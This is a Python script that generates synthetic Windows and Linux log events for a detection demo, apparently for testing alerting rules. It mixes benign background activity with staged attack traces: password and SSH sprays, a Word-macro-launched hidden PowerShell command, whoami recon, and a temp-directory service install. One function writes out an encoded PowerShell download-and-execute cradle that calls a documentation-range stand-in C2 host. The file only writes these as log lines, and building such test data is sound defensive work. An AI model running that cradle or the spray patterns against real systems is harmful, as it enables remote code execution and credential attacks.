#!/usr/bin/env python3
"""Generates the demo's sample events: realistic Windows (Security, System,
Sysmon) events as JSON lines and Linux sshd/sudo/cron messages as syslog text
lines (RFC 3164 and RFC 5424), in one file, ordered by time.

The file mixes benign background noise with these attack steps:
  1. a password-spraying burst: many Security 4625 failed logons, each for a
     different TargetUserName, from one IpAddress against one domain
     controller within a minute;
  2. an SSH password spray: sshd "Failed password for invalid user X from IP
     port N ssh2" lines from one address against one Linux host;
  3. a suspicious encoded PowerShell command line (Sysmon EventID 1,
     powershell.exe -nop -w hidden -enc <base64 of UTF-16LE script>);
  4. the implant checking its privileges (whoami /priv);
  5. a new service installed (System EventID 7045) whose ImagePath is in a
     temp directory.

Replay format (mwrasp replay): a line whose first non-blank byte is '{' is
JSON, any other line is syslog. Python standard library only.

Usage: gen-sample.py [--seed N] [--out FILE] [--start RFC3339] [--noise N]
"""

import argparse
import base64
import datetime as dt
import json
import random
import sys

DOMAIN = "CORP"
FQDN = "corp.example.com"

USERS = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan",
    "judy", "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent",
    "victor", "walter", "yolanda",
]
WORKSTATIONS = ["WS-%03d" % n for n in (12, 17, 23, 31, 42, 56, 64, 71, 88, 93)]
SERVERS = ["FS-01", "APP-02", "SQL-01", "EXCH-01"]
DC = "DC-01"
LINUX_HOSTS = ["web-01", "web-02", "db-01", "bastion-01", "ci-runner-03"]
SSH_USERS = ["deploy", "ansible", "backup", "git", "alice", "bob"]

# The attackers use documentation address ranges (RFC 5737).
SPRAY_IP = "203.0.113.77"
SSH_SPRAY_IP = "198.51.100.23"
C2_URL = "http://198.51.100.99/update/stage2.ps1"

SPRAY_NAMES = [
    "administrator", "admin", "backup", "svc_sql", "svc_backup", "helpdesk",
    "it.support", "jsmith", "mjones", "test", "guest", "scanner", "printer",
    "hr.payroll", "finance", "ceo", "cfo", "reception", "training", "webadmin",
    "sqladmin", "exchange", "sharepoint", "vpnuser", "remote", "oracle",
    "postgres", "deploy", "jenkins", "alice", "bob", "carol", "dave", "erin",
]
SSH_SPRAY_NAMES = [
    "admin", "test", "user", "oracle", "ubuntu", "pi", "ftpuser", "guest",
    "postgres", "mysql", "hadoop", "git", "support", "tomcat", "nagios", "zabbix",
    "minecraft", "steam", "demo", "www",
]

# Ordinary programs: (Image, command line template, parent image).
BENIGN_PROCS = [
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer '
     r"--lang=en-US --renderer-client-id={n} --field-trial-handle=1844,{m}",
     r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\userinit.exe"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     r"C:\Windows\System32\services.exe"),
    (r"C:\Windows\System32\svchost.exe",
     r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
     r"C:\Windows\System32\services.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle',
     r"C:\Windows\explorer.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{u}\Documents\Q{q} budget.xlsx"',
     r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\notepad.exe", r'"C:\Windows\system32\notepad.exe" C:\Users\{u}\Desktop\notes.txt',
     r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}",
     r"C:\Windows\System32\svchost.exe"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\SearchProtocolHost.exe",
     r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}',
     r"C:\Windows\System32\SearchIndexer.exe"),
    (r"C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe",
     r'"C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process',
     r"C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -File C:\Scripts\inventory.ps1',
     r"C:\Windows\System32\svchost.exe"),
]

SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"


class Gen:
    def __init__(self, rnd, start):
        self.rnd = rnd
        self.start = start
        self.lines = []  # (time, seq, text)
        self.pid = 4000

    def next_pid(self):
        self.pid += self.rnd.randint(4, 400)
        return self.pid

    @staticmethod
    def ts(t):
        return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)

    def add_json(self, t, host, fields):
        rec = {"@timestamp": self.ts(t), "host.name": host}
        rec.update(fields)
        if "Computer" not in rec:
            rec["Computer"] = host
        self.lines.append((t, len(self.lines), json.dumps(rec, separators=(",", ":"))))

    def add_syslog(self, t, host, app, pid, msg, facility=4, severity=6, rfc5424=True):
        pri = facility * 8 + severity
        if rfc5424:
            text = "<%d>1 %s %s %s %d - - %s" % (pri, self.ts(t), host, app, pid, msg)
        else:
            # RFC 3164: "Mmm dd hh:mm:ss", day padded with a space.
            stamp = "%s %2d %s" % (t.strftime("%b"), t.day, t.strftime("%H:%M:%S"))
            text = "<%d>%s %s %s[%d]: %s" % (pri, stamp, host, app, pid, msg)
        self.lines.append((t, len(self.lines), text))

    def rand_time(self, span_s=540):
        return self.start + dt.timedelta(seconds=self.rnd.uniform(0, span_s))

    def internal_ip(self):
        return "10.20.%d.%d" % (self.rnd.randint(1, 12), self.rnd.randint(10, 250))

    # ---- benign ----------------------------------------------------------

    def logon_4624(self):
        r = self.rnd
        user = r.choice(USERS)
        target = r.choice(SERVERS + [DC] * 2 + WORKSTATIONS)
        ltype = r.choice([2, 3, 3, 3, 10, 11])
        fields = {
            "EventID": 4624,
            "Channel": "Security",
            "Provider_Name": "Microsoft-Windows-Security-Auditing",
            "Computer": "%s.%s" % (target, FQDN),
            "TargetUserName": user,
            "TargetDomainName": DOMAIN,
            "LogonType": ltype,
            "LogonProcessName": "User32" if ltype in (2, 10, 11) else "Kerberos",
            "AuthenticationPackageName": "Negotiate" if ltype != 3 else "Kerberos",
            "WorkstationName": r.choice(WORKSTATIONS),
            "IpAddress": self.internal_ip() if ltype != 2 else "127.0.0.1",
            "IpPort": str(r.randint(49152, 65535)) if ltype != 2 else "0",
            "TargetLogonId": "0x%x" % r.randint(0x100000, 0xFFFFFFF),
        }
        self.add_json(self.rand_time(), fields["Computer"], fields)

    def sysmon_process(self):
        r = self.rnd
        user = r.choice(USERS)
        host = "%s.%s" % (r.choice(WORKSTATIONS), FQDN)
        image, cmd, parent = r.choice(BENIGN_PROCS)
        fill = dict(u=user, n=r.randint(5, 90), m=r.randint(10**8, 10**9), q=r.randint(1, 4))
        fields = {
            "EventID": 1,
            "Channel": SYSMON_CHANNEL,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": host,
            "UtcTime": None,  # filled below
            "ProcessGuid": "{%08x-%04x-%04x-0000-0010%08x}" % (
                r.getrandbits(32), r.getrandbits(16), r.getrandbits(16), r.getrandbits(32)),
            "ProcessId": self.next_pid(),
            "Image": image.format(**fill),
            "CommandLine": cmd.format(**fill),
            "CurrentDirectory": "C:\\Users\\%s\\" % user,
            "User": "%s\\%s" % (DOMAIN, user),
            "IntegrityLevel": "Medium",
            "ParentProcessId": r.randint(500, 4000),
            "ParentImage": parent.format(**fill),
        }
        t = self.rand_time()
        fields["UtcTime"] = t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)
        self.add_json(t, host, fields)

    def sshd_accepted(self):
        r = self.rnd
        host = r.choice(LINUX_HOSTS)
        user = r.choice(SSH_USERS)
        method = r.choice(["publickey", "publickey", "password"])
        msg = "Accepted %s for %s from %s port %d ssh2" % (
            method, user, self.internal_ip(), r.randint(32768, 60999))
        if method == "publickey":
            msg += ": ED25519 SHA256:%s" % base64.b64encode(
                r.getrandbits(256).to_bytes(32, "big")).decode().rstrip("=")
        self.add_syslog(self.rand_time(), host, "sshd", r.randint(1000, 40000), msg,
                        facility=10, severity=6, rfc5424=r.random() < 0.5)

    def cron_or_sudo(self):
        r = self.rnd
        host = r.choice(LINUX_HOSTS)
        t = self.rand_time()
        if r.random() < 0.6:
            user = r.choice(["root", "backup", "www-data"])
            job = r.choice(["/usr/local/bin/rotate-logs", "run-parts --report /etc/cron.hourly",
                            "/opt/backup/bin/snapshot --quiet", "php /var/www/app/cron.php"])
            self.add_syslog(t, host, "CRON", r.randint(1000, 40000), "(%s) CMD (%s)" % (user, job),
                            facility=9, severity=6, rfc5424=False)
        else:
            user = r.choice(["deploy", "ansible", "alice"])
            cmd = r.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update",
                            "/usr/bin/journalctl -u app --since today"])
            self.add_syslog(t, host, "sudo", r.randint(1000, 40000),
                            "%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s"
                            % (user, user, cmd), facility=10, severity=5,
                            rfc5424=r.random() < 0.5)

    def failed_logon_noise(self):
        # A user mistypes a password now and then: a few 4625s, not a spray.
        r = self.rnd
        user = r.choice(USERS)
        host = "%s.%s" % (r.choice(WORKSTATIONS), FQDN)
        self.add_json(self.rand_time(), host, self._f4625(host, user, self.internal_ip(), 2,
                                                          "0xC000006A"))

    def _f4625(self, computer, user, ip, ltype, substatus):
        return {
            "EventID": 4625,
            "Channel": "Security",
            "Provider_Name": "Microsoft-Windows-Security-Auditing",
            "Computer": computer,
            "TargetUserName": user,
            "TargetDomainName": DOMAIN,
            "Status": "0xC000006D",
            "SubStatus": substatus,
            "FailureReason": "%%2313",
            "LogonType": ltype,
            "LogonProcessName": "NtLmSsp",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "-" if ltype == 3 else computer.split(".")[0],
            "IpAddress": ip,
            "IpPort": str(self.rnd.randint(49152, 65535)),
        }

    # ---- attacks ---------------------------------------------------------

    def password_spray(self, t0):
        r = self.rnd
        dc = "%s.%s" % (DC, FQDN)
        names = list(SPRAY_NAMES)
        r.shuffle(names)
        t = t0
        for name in names:  # 34 names within about 40 s
            t += dt.timedelta(milliseconds=r.randint(600, 1500))
            # Names that exist get "bad password", the others "no such user".
            sub = "0xC000006A" if name in USERS else "0xC0000064"
            self.add_json(t, dc, self._f4625(dc, name, SPRAY_IP, 3, sub))
        return t

    def ssh_spray(self, t0):
        r = self.rnd
        host = "bastion-01"
        t = t0
        pid = r.randint(20000, 30000)
        for name in SSH_SPRAY_NAMES:
            t += dt.timedelta(milliseconds=r.randint(300, 2000))
            pid += r.randint(1, 9)
            msg = "Failed password for invalid user %s from %s port %d ssh2" % (
                name, SSH_SPRAY_IP, r.randint(32768, 60999))
            self.add_syslog(t, host, "sshd", pid, msg, facility=10, severity=6,
                            rfc5424=r.random() < 0.5)
        return t

    def encoded_powershell(self, t):
        script = ("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');"
                  "IEX $wc.DownloadString('%s')" % C2_URL)
        enc = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
        host = "WS-042.%s" % FQDN
        user = "mallory"
        self.add_json(t, host, {
            "EventID": 1,
            "Channel": SYSMON_CHANNEL,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": host,
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
            "ProcessGuid": "{6b1c3f2a-9d41-6741-2a03-000000002e01}",
            "ProcessId": self.next_pid(),
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "OriginalFileName": "PowerShell.EXE",
            "CommandLine": "powershell.exe -nop -w hidden -enc %s" % enc,
            "CurrentDirectory": "C:\\Users\\%s\\Downloads\\" % user,
            "User": "%s\\%s" % (DOMAIN, user),
            "IntegrityLevel": "Medium",
            "ParentProcessId": 7312,
            "ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "ParentCommandLine": r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" '
                                 r'/n "C:\Users\mallory\Downloads\Invoice_8841.docm"',
        })

    def whoami_recon(self, t):
        # The implant looks at its privileges right after it starts.
        host = "WS-042.%s" % FQDN
        self.add_json(t, host, {
            "EventID": 1,
            "Channel": SYSMON_CHANNEL,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": host,
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
            "ProcessGuid": "{6b1c3f2a-9d44-6741-2b03-000000002e01}",
            "ProcessId": self.next_pid(),
            "Image": r"C:\Windows\System32\whoami.exe",
            "OriginalFileName": "whoami.exe",
            "CommandLine": r'"C:\Windows\system32\whoami.exe" /priv',
            "CurrentDirectory": "C:\\Users\\mallory\\Downloads\\",
            "User": "%s\\mallory" % DOMAIN,
            "IntegrityLevel": "Medium",
            "ParentImage": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        })

    def new_service(self, t):
        host = "APP-02.%s" % FQDN
        self.add_json(t, host, {
            "EventID": 7045,
            "Channel": "System",
            "Provider_Name": "Service Control Manager",
            "Computer": host,
            "ServiceName": "WinSvcUpdate",
            "ImagePath": r"C:\Users\mallory\AppData\Local\Temp\svcupd.exe -k netsvc",
            "ServiceType": "user mode service",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        })


def parse_time(s):
    s = s.strip()
    if s.endswith("Z") or s.endswith("z"):
        s = s[:-1] + "+00:00"
    t = dt.datetime.fromisoformat(s)
    if t.tzinfo is None:
        t = t.replace(tzinfo=dt.timezone.utc)
    return t.astimezone(dt.timezone.utc)


def generate(seed, start, noise):
    rnd = random.Random(seed)
    g = Gen(rnd, start)
    makers = [(g.logon_4624, 30), (g.sysmon_process, 40), (g.sshd_accepted, 12),
              (g.cron_or_sudo, 14), (g.failed_logon_noise, 4)]
    funcs = [f for f, w in makers for _ in range(w)]
    for _ in range(noise):
        rnd.choice(funcs)()
    # The attack story, in order: spray (Windows, then SSH), then the foothold
    # (macro-launched encoded PowerShell, then whoami /priv), then
    # persistence (new service).
    t = start + dt.timedelta(seconds=rnd.uniform(120, 180))
    t = g.password_spray(t)
    g.ssh_spray(t + dt.timedelta(seconds=rnd.uniform(5, 20)))
    t_ps = start + dt.timedelta(seconds=rnd.uniform(300, 360))
    g.encoded_powershell(t_ps)
    g.whoami_recon(t_ps + dt.timedelta(seconds=rnd.uniform(2, 8)))
    g.new_service(t_ps + dt.timedelta(seconds=rnd.uniform(30, 90)))
    g.lines.sort(key=lambda x: (x[0], x[1]))
    return [text for _, _, text in g.lines]


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument("--out", default="-", help="output file (default stdout)")
    ap.add_argument("--start", default=None,
                    help="time of the first event, RFC 3339 (default: now minus 10 minutes)")
    ap.add_argument("--noise", type=int, default=1000,
                    help="number of benign background events (default 1000)")
    a = ap.parse_args(argv)
    if a.noise < 0 or a.noise > 1000000:
        ap.error("--noise must be in 0..1000000")
    if a.start:
        try:
            start = parse_time(a.start)
        except ValueError as e:
            ap.error("--start: %s" % e)
    else:
        now = dt.datetime.now(dt.timezone.utc).replace(microsecond=0)
        start = now - dt.timedelta(minutes=10)
    lines = generate(a.seed, start, a.noise)
    data = "\n".join(lines) + "\n"
    if a.out == "-":
        sys.stdout.write(data)
    else:
        with open(a.out, "w", encoding="utf-8") as f:
            f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
